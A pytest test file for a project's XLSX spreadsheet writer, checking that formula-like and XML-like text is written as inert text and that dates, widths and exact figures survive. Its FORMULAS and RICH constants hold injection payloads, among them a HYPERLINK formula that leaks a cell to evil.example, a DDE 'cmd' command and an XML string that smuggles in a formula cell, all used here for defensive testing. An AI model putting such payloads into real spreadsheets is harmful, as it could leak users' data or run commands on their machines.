"""The XLSX writer (core.spreadsheets.Workbook, on XlsxWriter): every way a value reaches a cell keeps text
text and never a formula, and sheets keep their widths, frozen panes, dates and exact figures. Files are read
back with openpyxl, as a spreadsheet program and Placeboard's own importer read them."""

import datetime
import gc
import io
import os
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from placeboard.core import spreadsheets
from placeboard.core.spreadsheets import BOLD, Style, Workbook
from placeboard.imports import readers
from placeboard.performance.reporting import Cell, Section
from placeboard.reports import render

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Details")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1", "\r=1"]
# XlsxWriter writes text of the form "<r>…</r>" unescaped, as a rich-text run: this one would add a formula cell.
RICH = '<r><t>a</t></r></is></c><c r="B1"><f>1+1</f><v>2</v></c><c r="C1" t="inlineStr"><is><r><t>b</t></r>'


@pytest.fixture(autouse=True, params=["in memory", "streamed"])
def mode(request, monkeypatch):
    """Every test twice: a workbook made in memory, and one streamed to disk from its first row."""
    if request.param == "streamed":
        monkeypatch.setattr(Workbook, "MEMORY_CELLS", 0)
    return request.param


def read_back(data):
    return load_workbook(io.BytesIO(data))


def sheet_xml(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")}


def assert_no_formulas(data):
    for name, xml in sheet_xml(data).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert not re.search(r' t="(str|e)"', xml), name  # no formula results, no error values


def as_read_back(text):
    return text.replace("\r", "\n")  # XML has no bare carriage return: it reads as a line feed


def test_formula_like_text_is_a_quoted_string_cell_whichever_way_it_is_written():
    book = Workbook()
    sheet = book.sheet("Sheet")
    sheet.append([f"column {n}" for n in range(len(FORMULAS))])
    sheet.append(FORMULAS)  # plain values
    sheet.append(FORMULAS, style=BOLD)  # a styled row
    sheet.append([sheet.cell(text, style=Style(fill="D4351C", colour="FFFFFF", bold=True, wrap=True))
                  for text in FORMULAS])  # a styled cell
    sheet.append([sheet.cell(text) for text in FORMULAS])  # a cell with no style
    sheet.append([Decimal("-12345678901234.123456"), -(10 ** 20) - 1])  # figures too long for a number: text
    data = book.to_bytes()
    rows = [list(row) for row in read_back(data).active.iter_rows()][1:]
    for row in rows[:4]:
        assert [c.value for c in row] == [as_read_back(t) for t in FORMULAS]
        assert all(c.data_type == "s" and c.quotePrefix for c in row), [(c.coordinate, c.value) for c in row]
    assert [(c.value, c.data_type, c.quotePrefix) for c in rows[4] if c.value is not None] == [
        ("-12345678901234.123456", "s", True), ("-100000000000000000001", "s", True)]
    assert_no_formulas(data)
    # Placeboard's importer reads the text exactly as written, the quote prefix marking it as text.
    table = readers.read_table("book.xlsx", data)
    assert [cells for _, cells in table.rows][:3] == [[as_read_back(t) for t in FORMULAS]] * 3


def test_a_report_and_its_status_cells_keep_formula_like_text_inert():
    rows = [[Cell("=1+1"), Cell(Decimal("-2.5")), Cell("-4", rag="red"), Cell("", rag="green"),
             Cell(Decimal("7"), note="revised")]]
    section = Section(heading="=Theme", columns=["@Outcome", "Value", "Status", "Light", "Figure"], rows=rows,
                      summary=[("+Summary", "-1", None)])

    class Report:
        title, subtitle, notes, tidy = "=Title", "-Subtitle", ["@note"], None
        sections = [section]

    data = render.to_xlsx(Report)
    cells = [c for s in read_back(data).worksheets for row in s.iter_rows() for c in row if c.value is not None]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert {c.value for c in texts if c.quotePrefix} == {"=Title", "=Theme", "@note", "+Summary", "-1", "@Outcome",
                                                         "=1+1", "-4"}
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in cells if c.data_type == "n"] == [-2.5, 7]
    status = next(c for c in cells if c.value == "-4")
    assert status.fill.fgColor.rgb.endswith("D4351C") and status.font.b and status.alignment.wrap_text
    assert_no_formulas(data)


def test_text_that_looks_like_rich_text_xml_is_written_as_text():
    book = Workbook()
    sheet = book.sheet("Sheet")
    sheet.append([RICH, "<r>", "<r>=1</r>"])
    sheet.append([sheet.cell(RICH, style=BOLD)])
    data = book.to_bytes()
    assert_no_formulas(data)
    rows = [[(c.value, c.data_type) for c in row if c.value is not None] for row in read_back(data).active.iter_rows()]
    assert rows == [[(RICH, "s"), ("<r>", "s"), ("<r>=1</r>", "s")], [(RICH, "s")]]
    assert read_back(data).active["A2"].font.b  # the cell's own font, run by run
    table = readers.read_table("book.xlsx", data)  # as Placeboard's importer reads it
    assert (table.header, [cells[0] for _, cells in table.rows]) == ([RICH, "<r>", "<r>=1</r>"], [RICH])


def test_widths_frozen_panes_and_sheet_titles():
    book = Workbook()
    first = book.sheet("Return", widths=[12, None, 40], freeze="A2")
    first.append(["code", "title", "note"], style=BOLD)
    book.sheet("return")  # Excel's titles ignore case
    book.sheet("a/b: [c]*?\\ and a title far longer than thirty-one characters")
    book.sheet("'quoted'")
    book.sheet("  ")
    workbook = read_back(book.to_bytes())
    assert workbook.sheetnames == ["Return", "return 2", "a-b- -c---- and a title far lon", "quoted", "Sheet 5"]
    sheet = workbook["Return"]
    assert sheet.freeze_panes == "A2"
    # Widths in characters, as given; the file adds Excel's few pixels of padding.
    assert 12 <= sheet.column_dimensions["A"].width < 13 and 40 <= sheet.column_dimensions["C"].width < 41
    assert sheet.column_dimensions["B"].width == 13  # openpyxl's default: B was left alone
    assert sheet["A1"].font.b


def test_dates_stay_dates_and_other_values_keep_their_type():
    book = Workbook()
    sheet = book.sheet("Sheet")
    sheet.append([datetime.date(2009, 5, 1), datetime.datetime(2009, 5, 1, 13, 30), True, None, "#N/A", "",
                  sheet.cell(datetime.date(2010, 1, 2), style=BOLD), 3, 0.1])
    cells = list(read_back(book.to_bytes()).active[1])
    assert (cells[0].value, cells[0].is_date, cells[0].number_format) == (
        datetime.datetime(2009, 5, 1), True, "yyyy-mm-dd")
    assert (cells[1].value, cells[1].is_date) == (datetime.datetime(2009, 5, 1, 13, 30), True)
    assert (cells[2].value, cells[2].data_type) == (True, "b")
    assert cells[3].value is None
    assert (cells[4].value, cells[4].data_type) == ("#N/A", "s")  # text, not an error value
    assert cells[6].is_date and cells[6].font.b and cells[6].value == datetime.datetime(2010, 1, 2)
    assert [(c.value, c.data_type) for c in cells[7:]] == [(3, "n"), (0.1, "n")]


def test_figures_are_written_exactly_or_as_their_exact_text():
    # 8.2 and 75.6 are written as 8.199999999999999 and 75.59999999999999: the same floats, so still numbers.
    exact = [Decimal("57.400000"), Decimal("100.000"), Decimal("-2.5"), Decimal("1234567890123456"),
             Decimal("0.1"), Decimal("1E+20"), 2 ** 53, Decimal("8.2"), Decimal("75.6"), Decimal("74.40"),
             Decimal("78901598.4")]
    too_long = [Decimal("12345678901234.123456"), Decimal("12345678901234567890"), Decimal("0.30000000000000004"),
                2 ** 60, Decimal("NaN"), float("inf")]
    book = Workbook()
    book.sheet("Sheet").append(exact + too_long)
    cells = list(read_back(book.to_bytes()).active[1])
    numbers, texts = cells[:len(exact)], cells[len(exact):]
    assert all(c.data_type == "n" for c in numbers)
    assert [Decimal(str(c.value)) for c in numbers] == exact
    assert [(c.value, c.data_type) for c in texts] == [
        ("12345678901234.123456", "s"), ("12345678901234567890", "s"), ("0.30000000000000004", "s"),
        (str(2 ** 60), "s"), ("NaN", "s"), ("inf", "s")]


def test_line_endings_read_back_as_line_feeds():
    book = Workbook()
    book.sheet("Sheet").append(["first\r\nsecond\rthird"])
    data = book.to_bytes()
    assert read_back(data).active["A1"].value == "first\nsecond\nthird"
    assert "_x000D_" not in "".join(sheet_xml(data).values())


def test_a_big_workbook_streams_through_a_folder_removed_when_the_file_is_made_or_the_workbook_dropped(
        monkeypatch):
    monkeypatch.setattr(Workbook, "MEMORY_CELLS", 4)
    book = Workbook()
    sheet = book.sheet("Sheet", widths=[10], freeze="A2")
    sheet.append(["a", "b"])
    sheet.append(["=c", 1])
    assert book.book is None  # four cells: still in memory
    sheet.append([datetime.date(2009, 5, 1)])  # the fifth: rows from now on go to disk
    folder = book._folder
    assert os.path.isdir(folder) and book.book is not None
    later = book.sheet("Later")
    later.append(["=d"], style=BOLD)
    data = book.to_bytes()
    workbook = read_back(data)
    assert [[c.value for c in row] for row in workbook["Sheet"].iter_rows()] == [
        ["a", "b"], ["=c", 1], [datetime.datetime(2009, 5, 1), None]]
    assert workbook["Sheet"]["A2"].quotePrefix and workbook["Later"]["A1"].quotePrefix
    assert workbook["Sheet"].freeze_panes == "A2"
    assert not os.path.exists(folder)
    dropped = Workbook()
    dropped.sheet("Sheet").append(["a"] * 5)  # as if writing failed half way
    folder = dropped._folder
    assert os.path.isdir(folder)
    del dropped
    gc.collect()
    assert not os.path.exists(folder)


def test_an_empty_workbook_still_opens():
    assert read_back(Workbook().to_bytes()).sheetnames == ["Sheet"]


def test_xlsx_value_is_the_one_rule_for_figures():
    assert spreadsheets.xlsx_value(Decimal("57.4")) == 57.4
    assert spreadsheets.xlsx_value(Decimal("100.000")) == 100
    assert spreadsheets.xlsx_value(Decimal("12345678901234.123456")) == "12345678901234.123456"
    assert spreadsheets.xlsx_value(10 ** 17 + 1) == "100000000000000001"


def test_a_note_that_looks_like_rich_text_stays_text_in_the_report_and_the_export(as_user, personas, partnership):
    from django.urls import reverse

    from placeboard.performance.periods import parse_period
    from placeboard.performance.services import record_observation
    from tests.performance.conftest import build_indicators

    indicators = build_indicators(partnership)
    record_observation(indicator=indicators["reregistrations"], period=parse_period("2006/07 Q1"),
                       user=personas["provider"], value=Decimal("26.8"), note=RICH)
    client = as_user("officer")
    for address, query in ((reverse("report", args=["testshire", "spreadsheet"]), {"format": "xlsx"}),
                           (reverse("export_download", args=["testshire", "actuals", "xlsx"]), {})):
        data = client.get(address, query).content
        assert_no_formulas(data)
        cells = [c for s in read_back(data).worksheets for row in s.iter_rows() for c in row if c.value == RICH]
        assert cells and all(c.data_type == "s" for c in cells), address


def test_every_figure_a_float_keeps_is_a_number():
    """Figures of up to 15 significant digits, as people type them, are numbers whatever their last digits."""
    for figure in [*(Decimal(n).scaleb(-1) for n in range(-1000, 20000)),
                   *(Decimal(n * 7919).scaleb(-places) for n in range(1, 3000) for places in (2, 3, 6)),
                   Decimal("99999999999999.9"), Decimal("-123456789012.345")]:
        number = spreadsheets.xlsx_value(figure)
        assert isinstance(number, (int, float)) and Decimal(repr(float("%.16G" % number))) == figure, figure


def test_figures_written_with_sixteen_digits_import_again_unchanged(partnership):
    from placeboard.imports import exporters
    from placeboard.imports.importers import import_file
    from placeboard.performance.models import Observation
    from tests.performance.conftest import build_indicators

    build_indicators(partnership)
    for observation, value in zip(Observation.objects.order_by("pk"),
                                  ["8.2", "75.6", "74.4", "61.1", "0.7", "33.3"], strict=False):
        observation.value = Decimal(value)
        observation.save()
    data, _, name = exporters.export("actuals", partnership, "xlsx")
    plan = import_file("actuals", partnership, name, data, None)
    assert plan.ok, plan.problems
    assert plan.created == plan.updated == 0 and plan.unchanged == plan.rows > 0
